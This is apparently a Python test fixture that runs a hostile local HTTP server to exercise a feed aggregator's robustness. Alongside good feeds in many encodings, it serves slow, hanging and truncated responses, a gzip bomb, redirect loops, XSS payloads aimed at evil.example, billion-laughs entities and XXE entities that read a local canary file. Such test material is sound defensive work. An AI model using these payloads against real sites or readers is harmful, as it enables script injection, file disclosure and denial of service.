"""A hostile HTTP server on 127.0.0.1 for end-to-end tests: every way a feed host can misbehave, plus good feeds.

Threaded (one thread per connection, daemon threads), standard library only. Each hostile behaviour is
cheap for the server and bounded in time: a slow drip ends after ~60 s, an endless body and a gzip bomb
stop as soon as the client hangs up (or after 1 GiB), a hung request is released when the server stops.

Routes (see `HOSTILE` for the one-line description of each hostile case):

    /good/<name>.rss            a good RSS feed of `GOOD_ITEMS` items (ETag, 304, gzip)
    /good/<name>.atom           a good Atom feed of `GOOD_ITEMS` entries
    /feed/<name>/<n>.rss        a good RSS feed of n items with longer bodies, no ETag (crash tests)
    /slow-ok?delay=S            waits S seconds, then a good feed (for lock tests)
    /enc/<codec>.rss            a feed in that encoding (see ENCODED), no declaration unless the codec says so
    /pages/<codec>/...          a small HTML blog in that encoding, no charset anywhere
    /articles/...               a plain HTML article for any link in the feeds

Every request is recorded as (method, path); `hits(prefix)` counts them.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import socket
import struct
import threading
import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email.utils import format_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

CANARY_LOCAL = "CANARY-LOCAL-FILE-5f3a9c"  # the content of the local file the XXE feed points at
CANARY_HTTP = "CANARY-XXE-HTTP-FETCHED"
CANARY_DTD = "CANARY-XXE-DTD-FETCHED"
GOOD_ITEMS = 4
SLOW_BODY = b'<rss version="2.0"><channel><title>slow</title></channel></rss>' * 4  # 248 bytes
SLOW_INTERVAL = 0.25  # a byte every 0.25 s: a read timeout of 1 s never fires, the body takes ~60 s
RETRY_503_TIMES = 2
CHAIN_HOPS = 25

# (path, what the server does)
HOSTILE: list[tuple[str, str]] = [
    ("/slow", "200, Content-Length 248, then one byte every 0.25 s (about a minute in all)"),
    ("/hang", "reads the request and never answers"),
    ("/endless", "chunked RSS with items forever (stops when the client hangs up)"),
    ("/gzip-bomb", "gzip, about 1 MB on the wire, 1 GiB of spaces inflated, generated on the fly"),
    ("/redirect-loop", "302 to itself"),
    ("/redirect-file", "302 to a file:// URL of a local canary file"),
    ("/redirect-chain", f"{CHAIN_HOPS} redirects, then a good feed"),
    ("/500", "500 with an HTML body"),
    ("/503-retry-after", f"503 + Retry-After: 1 for the first {RETRY_503_TIMES} GETs, then a good 3-item feed"),
    ("/429", "429 + Retry-After: 3600, always"),
    ("/truncated", "RSS cut in the middle of its third item (Content-Length right)"),
    ("/png", "a PNG image served as image/png"),
    ("/html-as-rss", "an HTML page served as application/rss+xml"),
    ("/gbk", "RSS in GBK without any declaration (no prolog encoding, no charset)"),
    ("/big5", "RSS in Big5 without any declaration"),
    ("/xss", "RSS full of script, on*=, javascript:, data:text/html, iframe, form, style, svg onload"),
    ("/entities", "billion-laughs entity expansion in title and description"),
    ("/xxe", "external entities: a local canary file, an http URL on this server, a parameter-entity DTD"),
    ("/dup-guids", "10 items sharing one guid, with different titles and links"),
    ("/no-dates", "5 items without any date"),
    ("/future-dates", "3 items dated 2099 and one dated normally"),
    ("/weird-dates", "items dated in odd formats (CJK, slashes, day-first, epoch, 0001-01-01, junk)"),
    ("/relative-links", "relative item links and relative URLs in content, with xml:base"),
    ("/empty", "200 with an empty body"),
    ("/reset", "announces 20 KB, sends 4 KB, then resets the connection"),
    ("/wrong-length", "Content-Length 100000 but a 1.5 KB complete feed, then closes"),
]

RSS_NS = 'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'


def rfc822(y: int, mo: int, d: int, h: int = 8) -> str:
    return format_datetime(datetime(y, mo, d, h, tzinfo=UTC), usegmt=True)


def rss_doc(
    origin: str,
    title: str,
    items: str,
    *,
    decl: str = '<?xml version="1.0" encoding="UTF-8"?>',
    channel_attrs: str = "",
    doctype: str = "",
) -> str:
    return (
        f'{decl}\n{doctype}<rss version="2.0" {RSS_NS}>\n<channel{channel_attrs}>\n<title>{title}</title>\n'
        f"<link>{origin}/articles/</link>\n<description>test feed</description>\n{items}</channel>\n</rss>\n"
    )


def rss_item(
    title: str,
    link: str,
    guid: str | None = None,
    date: str | None = None,
    desc: str = "",
    extra: str = "",
    attrs: str = "",
) -> str:
    out = f"<item{attrs}>\n  <title>{title}</title>\n  <link>{link}</link>\n"
    if guid is not None:
        out += f'  <guid isPermaLink="false">{guid}</guid>\n'
    if date is not None:
        out += f"  <pubDate>{date}</pubDate>\n"
    if desc:
        out += f"  <description>{desc}</description>\n"
    return out + extra + "</item>\n"


def good_titles(name: str, count: int = GOOD_ITEMS) -> list[str]:
    return [f"{name} post {i}" for i in range(1, count + 1)]


def good_rss(origin: str, name: str, count: int = GOOD_ITEMS, body_words: int = 12) -> bytes:
    words = " ".join(f"w{k}" for k in range(body_words))
    items = "".join(
        rss_item(
            title,
            f"{origin}/articles/{name}/{i}.html",
            f"{name}-{i}",
            rfc822(2026, 10, 1 + i % 28, i % 24),
            f'<![CDATA[<p>Body of {title}: {words}.</p><p><b>bold</b> and <a href="/x/{i}">a link</a></p>]]>',
        )
        for i, title in enumerate(good_titles(name, count), 1)
    )
    return rss_doc(origin, f"Good feed {name}", items).encode()


def good_atom(origin: str, name: str, count: int = GOOD_ITEMS) -> bytes:
    entries = "".join(
        f"<entry><title>{title}</title><id>urn:{name}:{i}</id><updated>2026-10-{i:02d}T08:00:00Z</updated>"
        f'<link rel="alternate" href="{origin}/articles/{name}/{i}.html"/>'
        f'<content type="html">&lt;p&gt;Atom body {i} of {name}.&lt;/p&gt;</content></entry>\n'
        for i, title in enumerate(good_titles(name, count), 1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n'
        f"<title>Good atom {name}</title><id>urn:{name}</id><updated>2026-10-09T08:00:00Z</updated>\n"
        f"<author><name>Tester</name></author>\n{entries}</feed>\n"
    ).encode()


# -- encodings: (codec, declared prolog encoding or None, feed title, item titles) -------------------------------
ENCODED: dict[str, tuple[str, str | None, str, list[str]]] = {
    "gbk": (
        "gbk",
        None,
        "中文编码测试博客",
        ["深度学习入门：反向传播算法详解", "强化学习笔记：策略梯度方法", "论文阅读：注意力机制就是你所需要的"],
    ),
    "gb18030": (
        "gb18030",
        None,
        "机器学习笔记本",
        [
            "卷积神经网络的梯度消失问题与残差连接",
            "变分自编码器推导：证据下界与重参数化技巧",
            "扩散模型入门：前向加噪与反向去噪过程",
        ],
    ),
    "big5": (
        "big5",
        None,
        "機器學習筆記：繁體中文部落格",
        ["強化學習原理：策略梯度", "卷積神經網路入門", "注意力機制論文閱讀：自注意力與多頭注意力"],
    ),
    "shift_jis": (
        "shift_jis",
        None,
        "機械学習の勉強ノート",
        [
            "深層学習の基礎：誤差逆伝播法について",
            "強化学習入門：方策勾配法とアクタークリティック",
            "論文紹介：注意機構こそがすべてである",
        ],
    ),
    "euc_kr": (
        "euc_kr",
        None,
        "머신러닝 공부 노트",
        [
            "딥러닝 입문: 역전파 알고리즘 자세히 알아보기",
            "강화학습 정리: 정책 경사 방법과 보상 함수",
            "논문 리뷰: 어텐션 메커니즘과 트랜스포머 구조",
        ],
    ),
    # UTF-8 bytes that claim to be ISO-8859-1 in the XML prolog
    "utf8_wrong_decl": (
        "utf-8",
        "ISO-8859-1",
        "自然言語処理ブログ",
        [
            "词向量与语义相似度：从 word2vec 到 GloVe",
            "Café au lait: naïve Bayes für Anfänger",
            "トランスフォーマーの位置エンコーディング",
        ],
    ),
}
ENCODED_BODIES = {
    "gbk": "本文介绍反向传播算法的推导与实现，并讨论梯度计算中的数值稳定性问题。",
    "gb18030": "残差连接让深层网络的训练变得稳定，本文从梯度流动的角度进行分析。",
    "big5": "本站內容以繁體中文撰寫，介紹機器學習的基本原理與實作細節。",
    "shift_jis": "本記事では誤差逆伝播法の導出と実装について、具体例を交えて説明します。",
    "euc_kr": "이 글에서는 역전파 알고리즘의 유도 과정과 구현 방법을 예제와 함께 설명합니다.",
    "utf8_wrong_decl": "これは UTF-8 で書かれていますが、宣言は ISO-8859-1 です。日本語と中文。",
}


def encoded_feed(origin: str, key: str) -> bytes:
    codec, declared, feed_title, titles = ENCODED[key]
    body = ENCODED_BODIES[key]
    decl = f'<?xml version="1.0" encoding="{declared}"?>' if declared else '<?xml version="1.0"?>'
    items = "".join(
        rss_item(t, f"{origin}/articles/enc-{key}/{i}.html", f"{key}-{i}", rfc822(2026, 9, 10 + i), f"{body} ({i})")
        for i, t in enumerate(titles, 1)
    )
    return rss_doc(origin, feed_title, items, decl=decl).encode(codec)


def encoded_page(origin: str, key: str, path: str) -> bytes | None:
    """A tiny blog in `key`'s encoding, with no charset anywhere (or the wrong one, for utf8_wrong_decl)."""
    codec, declared, site_title, titles = ENCODED[key]
    meta = f'<meta http-equiv="Content-Type" content="text/html; charset={declared}">' if declared else ""
    base = f"/pages/{key}/"
    if path in (base, base.rstrip("/")):
        links = "".join(
            f'<li><a href="{base}posts/{i}.html">{t}</a> <time datetime="2026-09-{10 + i}">'
            f"2026-09-{10 + i}</time></li>\n"
            for i, t in enumerate(titles, 1)
        )
        html = (
            f"<!DOCTYPE html>\n<html><head>{meta}<title>{site_title}</title></head><body>\n<header><h1>{site_title}"
            f'</h1></header>\n<main><ul class="post-list">\n{links}</ul></main>\n</body></html>\n'
        )
        return html.encode(codec)
    for i, title in enumerate(titles, 1):
        if path == f"{base}posts/{i}.html":
            html = (
                f"<!DOCTYPE html>\n<html><head>{meta}<title>{title} | {site_title}</title></head><body>\n"
                f'<article><h1>{title}</h1><time datetime="2026-09-{10 + i}T08:00:00Z">2026-09-{10 + i}</time>\n'
                + f"<p>{ENCODED_BODIES[key]}</p>\n" * 4
                + "</article>\n</body></html>\n"
            )
            return html.encode(codec)
    return None


# -- the hostile documents --------------------------------------------------------------------------------------
XSS_PAYLOAD = (
    "<p>Safe paragraph survives.</p><script>alert('desc-script')</script>"
    '<img src="x.png" onerror="alert(\'img-onerror\')"><a href="javascript:alert(\'a-js\')">click</a>'
    "<a href=\"JaVaScRiPt:alert('mixed-case')\">mixed</a><a href=\"&#106;avascript:alert('entity')\">ent</a>"
    "<a href=\"java&#x09;script:alert('tab')\">tab</a><a href=\" javascript:alert('space')\">space</a>"
    "<a href=\"vbscript:msgbox('vb')\">vb</a>"
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="data image allowed">'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg data image">'
    '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>'
    "<div style=\"background:url(javascript:alert('css'))\">styled</div>"
    '<svg onload="alert(\'svg-onload\')"><circle r="1"/></svg>'
    '<form action="https://evil.example/steal"><input name="pw"><button>go</button></form>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf">'
    '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">'
    "<p onclick=\"alert('p-onclick')\" onmouseover=\"alert('hover')\">clickable</p>"
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(\'math\')">m</maction></math>'
)


def xss_feed(origin: str) -> bytes:
    items = (
        rss_item(
            "&lt;script&gt;alert('title-script')&lt;/script&gt;Escaped script in title",
            f"{origin}/articles/xss-1.html",
            "xss-1",
            rfc822(2026, 11, 1),
            f"<![CDATA[{XSS_PAYLOAD}]]>",
            f"  <content:encoded><![CDATA[{XSS_PAYLOAD}]]></content:encoded>\n"
            "  <dc:creator>&lt;img src=x onerror=alert('author')&gt;</dc:creator>\n",
        )
        + rss_item(
            "<![CDATA[<img src=x onerror=alert('title-img')> CDATA image in title]]>",
            f"{origin}/articles/xss-2.html",
            "xss-2",
            rfc822(2026, 11, 2),
            f"<![CDATA[{XSS_PAYLOAD}]]>",
        )
        + rss_item(
            "Javascript link item",
            "javascript:alert(document.cookie)",
            "xss-3",
            rfc822(2026, 11, 3),
            "Its link is a script.",
        )
        + rss_item(
            "Data link item",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "xss-4",
            rfc822(2026, 11, 4),
            "Its link is a data URL.",
        )
        + rss_item(
            "Normal post survives",
            f"{origin}/articles/xss-ok.html",
            "xss-ok",
            rfc822(2026, 11, 5),
            "&lt;p&gt;A perfectly normal post with &lt;b&gt;bold&lt;/b&gt; text.&lt;/p&gt;",
        )
    )
    return rss_doc(origin, "XSS &lt;script&gt;alert('channel')&lt;/script&gt;", items).encode()


def billion_laughs(origin: str) -> bytes:
    lol = '  <!ENTITY lol "lol">\n' + "".join(
        f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    items = rss_item("&lol9;", f"{origin}/articles/lol.html", "lol-1", rfc822(2026, 11, 6), "&lol9;") + rss_item(
        "Laughs clean item", f"{origin}/articles/lol-ok.html", "lol-2", rfc822(2026, 11, 6), "No entities here."
    )
    return rss_doc(origin, "Billion laughs", items, doctype=f"<!DOCTYPE rss [\n{lol}]>\n").encode()


def xxe_feed(origin: str, local_file: str) -> bytes:
    doctype = (
        f'<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file://{local_file}">\n'
        f'  <!ENTITY remote SYSTEM "{origin}/xxe-canary">\n'
        f'  <!ENTITY % dtd SYSTEM "{origin}/xxe-canary.dtd">\n  %dtd;\n]>\n'
    )
    items = rss_item(
        "XXE: &xxe;",
        f"{origin}/articles/xxe.html",
        "xxe-1",
        rfc822(2026, 11, 7),
        "Local: &xxe; Remote: &remote; Dtd: &canary;",
    ) + rss_item("XXE clean item", f"{origin}/articles/xxe-ok.html", "xxe-2", rfc822(2026, 11, 8), "No entities.")
    return rss_doc(origin, "XXE test", items, doctype=doctype).encode()


WEIRD_DATES: list[tuple[str, str | None]] = [  # (pubDate, the published date agg should store)
    ("2024年5月22日", "2024-05-22T00:00:00Z"),
    ("2024/6/29 15:07:41", "2024-06-29T15:07:41Z"),
    ("22/05/2024", "2024-05-22T00:00:00Z"),
    ("Mo, 25 Jun 2018", "2018-06-25T00:00:00Z"),
    ("0001-01-01T00:00:00Z", None),
    ("1716345600", "2024-05-22T02:40:00Z"),
    ("1716345600000", "2024-05-22T02:40:00Z"),
    ("", None),
    ("Wed, 31 Feb 2024 10:00:00 GMT", None),
    ("yesterday", None),
]


@functools.cache
def endless_block(origin: str) -> bytes:
    """64 KB of RSS items, sent again and again (the same links: nothing of it may be stored anyway)."""
    return "".join(
        rss_item(
            f"Endless post {i}",
            f"{origin}/articles/endless/{i}.html",
            None,
            rfc822(2026, 11, 2),
            "Lorem ipsum dolor sit amet " * 4,
        )
        for i in range(300)
    ).encode()


def make_png() -> bytes:
    raw = b"".join(b"\x00" + bytes((x * 16) & 255 for x in range(48)) for _ in range(16))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def documents(origin: str, canary_file: str) -> dict[str, tuple[str, bytes]]:
    """Every canned hostile body: path -> (content type, bytes)."""
    rss = "application/rss+xml"
    docs: dict[str, tuple[str, bytes]] = {}
    items = "".join(
        rss_item(
            f"Complete post {i}",
            f"{origin}/articles/cut-{i}.html",
            f"cut-{i}",
            rfc822(2026, 11, i),
            f"Complete body {i}.",
        )
        for i in (1, 2)
    )
    docs["/truncated"] = (
        rss,
        rss_doc(origin, "Truncated feed", items).rsplit("</channel>", 1)[0].encode()
        + b"<item>\n  <title>Third post, cut in the mid",
    )
    docs["/png"] = ("image/png", make_png())
    docs["/html-as-rss"] = (
        "application/rss+xml; charset=utf-8",
        (
            b'<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Welcome to my homepage</title>'
            b"</head>\n<body><h1>This is an HTML page, not a feed</h1><p>Served with an RSS content type.</p>"
            b'<ul><li><a href="/articles/a.html">An article</a></li></ul></body></html>\n'
        ),
    )
    docs["/gbk"] = (rss, encoded_feed(origin, "gbk"))
    docs["/big5"] = (rss, encoded_feed(origin, "big5"))
    docs["/xss"] = (rss, xss_feed(origin))
    docs["/entities"] = (rss, billion_laughs(origin))
    docs["/xxe"] = (rss, xxe_feed(origin, canary_file))
    docs["/xxe-canary"] = ("text/plain; charset=utf-8", CANARY_HTTP.encode())
    docs["/xxe-canary.dtd"] = ("application/xml-dtd", f'<!ENTITY canary "{CANARY_DTD}">\n'.encode())
    docs["/dup-guids"] = (
        rss,
        rss_doc(
            origin,
            "Duplicate GUIDs",
            "".join(
                rss_item(
                    f"Duplicate GUID post {i}",
                    f"{origin}/articles/dup-{i}.html",
                    "dup-guid-0001",
                    rfc822(2026, 10, i + 1),
                    f"Distinct body {i}.",
                )
                for i in range(1, 11)
            ),
        ).encode(),
    )
    docs["/no-dates"] = (
        rss,
        rss_doc(
            origin,
            "No dates",
            "".join(
                rss_item(
                    f"Undated post {i}",
                    f"{origin}/articles/undated-{i}.html",
                    f"undated-{i}",
                    None,
                    f"Undated body {i}.",
                )
                for i in range(1, 6)
            ),
        ).encode(),
    )
    docs["/future-dates"] = (
        rss,
        rss_doc(
            origin,
            "Future dates",
            "".join(
                rss_item(
                    f"Future post {i}",
                    f"{origin}/articles/future-{i}.html",
                    f"future-{i}",
                    rfc822(2099, i, 1),
                    f"Dated 2099-{i:02d}-01.",
                )
                for i in range(1, 4)
            )
            + rss_item(
                "Normally dated post",
                f"{origin}/articles/future-ok.html",
                "future-ok",
                rfc822(2026, 11, 9),
                "Dated 2026-11-09.",
            ),
        ).encode(),
    )
    docs["/weird-dates"] = (
        rss,
        rss_doc(
            origin,
            "Weird dates",
            "".join(
                rss_item(f"Weird date {i}", f"{origin}/articles/weird-{i}.html", f"weird-{i}", d, f"pubDate is {d!r}.")
                for i, (d, _) in enumerate(WEIRD_DATES, 1)
            ),
        ).encode(),
    )
    rel_items = (
        rss_item("Relative to xml:base", "posts/hello.html", "rel-1", rfc822(2026, 11, 1), "one")
        + rss_item(
            "Item-level xml:base",
            "x.html",
            "rel-2",
            rfc822(2026, 11, 2),
            "two",
            attrs=f' xml:base="{origin}/articles/other/"',
        )
        + rss_item("Root-relative", "/articles/root.html", "rel-3", rfc822(2026, 11, 3), "three")
        + rss_item("Dot-dot", "../up.html", "rel-4", rfc822(2026, 11, 4), "four")
        + rss_item(
            "Relative URLs in content",
            "desc.html",
            "rel-5",
            rfc822(2026, 11, 5),
            '<![CDATA[<p><img src="img/a.png" alt="a"> <a href="more.html">more</a> '
            '<a href="/articles/root.html">root</a></p>]]>',
        )
    )
    docs["/relative-links"] = (
        rss,
        rss_doc(origin, "Relative links", rel_items, channel_attrs=f' xml:base="{origin}/articles/2024/"').encode(),
    )
    return docs


RELATIVE_EXPECTED = {  # title -> link, relative to the server's origin
    "Relative to xml:base": "/articles/2024/posts/hello.html",
    "Item-level xml:base": "/articles/other/x.html",
    "Root-relative": "/articles/root.html",
    "Dot-dot": "/articles/up.html",
    "Relative URLs in content": "/articles/2024/desc.html",
}


class GzipBomb:
    """A gzip stream of an RSS head, `total` bytes of spaces and an RSS tail, compressed block by block."""

    def __init__(self, head: bytes, tail: bytes, total: int = 1 << 30, block: int = 1 << 20) -> None:
        self.head, self.tail, self.total, self.block = head, tail, total, block

    def chunks(self) -> Iterator[bytes]:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
        crc, size = zlib.crc32(self.head), len(self.head)
        yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" + compressor.compress(self.head)
        spaces = b" " * self.block
        compressed = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
        repeat = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)  # the steady-state block
        yield compressed
        crc = zlib.crc32(spaces, crc)
        size += self.block
        while size + self.block <= self.total:
            yield repeat
            crc = zlib.crc32(spaces, crc)
            size += self.block
        crc = zlib.crc32(self.tail, crc)
        size += len(self.tail)
        yield (
            compressor.compress(self.tail)
            + compressor.flush(zlib.Z_FINISH)
            + struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
        )


@dataclass
class Hostile:
    """The running server: `url(path)`, `origin`, and the requests it has seen."""

    origin: str = ""
    canary_file: str = ""
    requests: list[tuple[str, str]] = field(default_factory=list)
    counters: dict[str, int] = field(default_factory=dict)
    stopping: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock)
    docs: dict[str, tuple[str, bytes]] = field(default_factory=dict)

    def url(self, path: str) -> str:
        return self.origin + "/" + path.lstrip("/")

    def hits(self, prefix: str) -> int:
        with self.lock:
            return sum(1 for _, p in self.requests if p.startswith(prefix))

    def count(self, key: str) -> int:
        with self.lock:
            self.counters[key] = self.counters.get(key, 0) + 1
            return self.counters[key]


def _handler(state: Hostile) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            try:
                self._route()
            except (BrokenPipeError, ConnectionResetError, ConnectionAbortedError, TimeoutError, OSError):
                self.close_connection = True

        def _route(self) -> None:
            parts = urlsplit(self.path)
            path = parts.path
            with state.lock:
                state.requests.append(("GET", path))
            if path in state.docs:
                ctype, body = state.docs[path]
                return self._send(200, body, ctype)
            if path.startswith("/good/"):
                name = path.rsplit("/", 1)[1]
                stem, _, ext = name.rpartition(".")
                if ext == "atom":
                    return self._send(200, good_atom(state.origin, stem), "application/atom+xml", cache=True)
                return self._send(200, good_rss(state.origin, stem), "application/rss+xml", cache=True)
            if path.startswith("/feed/"):  # /feed/<name>/<n>.rss
                _, _, name, count = path.split("/")
                # no validators: every run downloads, parses and writes every source again (crash tests kill that)
                return self._send(
                    200, good_rss(state.origin, name, int(count.split(".")[0]), body_words=300), "application/rss+xml"
                )
            if path == "/slow-ok":
                delay = float(parse_qs(parts.query).get("delay", ["2"])[0])
                state.stopping.wait(delay)
                return self._send(200, good_rss(state.origin, "slow-ok"), "application/rss+xml")
            if path.startswith("/enc/"):
                key = path.rsplit("/", 1)[1].removesuffix(".rss")
                return self._send(200, encoded_feed(state.origin, key), "application/rss+xml")
            if path.startswith("/pages/"):
                key = path.split("/")[2]
                body = encoded_page(state.origin, key, path)
                if body is None:
                    return self._send(404, b"not found", "text/plain")
                return self._send(200, body, "text/html")
            if path.startswith("/articles/"):
                name = path.rsplit("/", 1)[-1]
                html = (
                    f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>Article {name}</title></head>'
                    f"<body><article><h1>Article {name}</h1><p>Plain article body.</p></article></body></html>"
                )
                return self._send(200, html.encode(), "text/html; charset=utf-8")
            if path == "/slow":
                self._head(200, "application/rss+xml", {"Content-Length": str(len(SLOW_BODY))})
                for i in range(len(SLOW_BODY)):
                    if state.stopping.wait(SLOW_INTERVAL):
                        break
                    self.wfile.write(SLOW_BODY[i : i + 1])
                    self.wfile.flush()
                self.close_connection = True
                return None
            if path == "/hang":
                self.connection.settimeout(0.2)
                while not state.stopping.is_set():
                    try:
                        if not self.connection.recv(65536):
                            break  # the client hung up
                    except TimeoutError:
                        continue
                self.close_connection = True
                return None
            if path == "/endless":
                self._head(200, "application/rss+xml; charset=utf-8", {"Transfer-Encoding": "chunked"})
                self._chunk(rss_doc(state.origin, "Endless feed", "").rsplit("</channel>", 1)[0].encode())
                block = endless_block(state.origin)
                for _ in range((1 << 30) // len(block)):
                    if state.stopping.is_set():
                        break
                    self._chunk(block)
                self._chunk(b"</channel></rss>")
                self.wfile.write(b"0\r\n\r\n")
                self.close_connection = True
                return None
            if path == "/gzip-bomb":
                head = (
                    rss_doc(
                        state.origin,
                        "gzip bomb",
                        rss_item(
                            "Post before the padding",
                            f"{state.origin}/articles/bomb.html",
                            "bomb-1",
                            rfc822(2026, 11, 1),
                            "What follows is a gigabyte of whitespace.",
                        ),
                    )
                    .rsplit("</channel>", 1)[0]
                    .encode()
                )
                self._head(200, "application/rss+xml", {"Content-Encoding": "gzip", "Connection": "close"})
                for piece in GzipBomb(head, b"\n</channel>\n</rss>\n").chunks():
                    if state.stopping.is_set():
                        break
                    self.wfile.write(piece)
                self.close_connection = True
                return None
            if path == "/redirect-loop":
                return self._send(302, b"loop\n", "text/plain", {"Location": state.url("/redirect-loop")})
            if path == "/redirect-file":
                return self._send(302, b"to a file\n", "text/plain", {"Location": f"file://{state.canary_file}"})
            if path == "/redirect-chain" or path.startswith("/redirect-chain/"):
                hop = 0 if path == "/redirect-chain" else int(path.rsplit("/", 1)[1])
                if hop >= CHAIN_HOPS:
                    return self._send(200, good_rss(state.origin, "chain"), "application/rss+xml")
                return self._send(302, b"hop\n", "text/plain", {"Location": state.url(f"/redirect-chain/{hop + 1}")})
            if path == "/500":
                return self._send(
                    500, b"<!DOCTYPE html><title>500</title><h1>Internal Server Error</h1>", "text/html; charset=utf-8"
                )
            if path.startswith("/503-retry-after"):
                if state.count(path) <= RETRY_503_TIMES:
                    return self._send(503, b"Service Unavailable\n", "text/plain", {"Retry-After": "1"})
                return self._send(200, good_rss(state.origin, "recovered", 3), "application/rss+xml")
            if path == "/429":
                return self._send(429, b"Too Many Requests\n", "text/plain", {"Retry-After": "3600"})
            if path == "/empty":
                return self._send(200, b"", "application/rss+xml")
            if path == "/reset":
                body = good_rss(state.origin, "reset", 40)
                body = (body * (20000 // len(body) + 1))[:20000]
                self._head(200, "application/rss+xml", {"Content-Length": str(len(body))})
                self.wfile.write(body[:4096])
                self.wfile.flush()
                time.sleep(0.1)
                self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                self.close_connection = True
                return None
            if path == "/wrong-length":
                self._head(200, "application/rss+xml", {"Content-Length": "100000", "Connection": "close"})
                self.wfile.write(good_rss(state.origin, "wrong-length", 3))
                self.wfile.flush()
                self.close_connection = True
                return None
            return self._send(404, b"no such endpoint\n", "text/plain")

        def _head(self, status: int, ctype: str, extra: dict[str, str]) -> None:
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            for key, value in extra.items():
                self.send_header(key, value)
            self.end_headers()
            self.wfile.flush()

        def _chunk(self, data: bytes) -> None:
            self.wfile.write(b"%x\r\n%s\r\n" % (len(data), data))

        def _send(
            self, status: int, body: bytes, ctype: str, extra: dict[str, str] | None = None, cache: bool = False
        ) -> None:
            headers = dict(extra or {})
            if cache:
                etag = '"' + hashlib.md5(body).hexdigest() + '"'
                if self.headers.get("If-None-Match") == etag:
                    self.send_response(304)
                    self.send_header("ETag", etag)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                headers["ETag"] = etag
                if "gzip" in (self.headers.get("Accept-Encoding") or ""):
                    body = gzip.compress(body)
                    headers["Content-Encoding"] = "gzip"
            headers["Content-Length"] = str(len(body))
            self._head(status, ctype, headers)
            if body:
                self.wfile.write(body)

    return Handler


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False  # hung connections end when `stopping` is set; never wait for them
    request_queue_size = 256  # a burst of 40 connects must not overflow the backlog (the kernel would drop SYNs)

    def handle_error(self, request: object, client_address: object) -> None:
        pass  # clients that hang up mid-response are the point of this server


@contextmanager
def serve_hostile(canary_file: str) -> Iterator[Hostile]:
    """Run the hostile server on a free port of 127.0.0.1 for the block. `canary_file` is the local file the
    XXE feed and the file:// redirect point at."""
    state = Hostile(canary_file=canary_file)
    server = _Server(("127.0.0.1", 0), _handler(state))
    state.origin = f"http://127.0.0.1:{server.server_address[1]}"
    state.docs = documents(state.origin, canary_file)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
    thread.start()
    try:
        yield state
    finally:
        state.stopping.set()
        server.shutdown()
        server.server_close()
